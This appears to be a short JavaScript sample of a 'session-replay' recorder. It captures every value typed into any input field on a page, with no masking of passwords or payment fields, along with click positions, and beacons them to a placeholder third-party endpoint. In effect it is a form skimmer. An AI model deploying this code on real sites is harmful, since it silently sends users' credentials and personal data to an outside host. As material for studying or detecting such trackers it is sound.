// Session-replay style recorder: records input values and taps and sends the
// session with navigator.sendBeacon.
(() => {
  const events = [];
  let timer = 0;
  const flush = () => {
    clearTimeout(timer);
    timer = setTimeout(() => navigator.sendBeacon('{{THIRD}}/collect/replay', JSON.stringify(events)), 300);
  };
  document.addEventListener('input', (e) => {
    const t = e.target;
    events.push({ t: 'input', sel: t.id, v: t.value });
    flush();
  }, true);
  document.addEventListener('click', (e) => {
    events.push({ t: 'click', x: e.clientX, y: e.clientY });
    flush();
  }, true);
})();
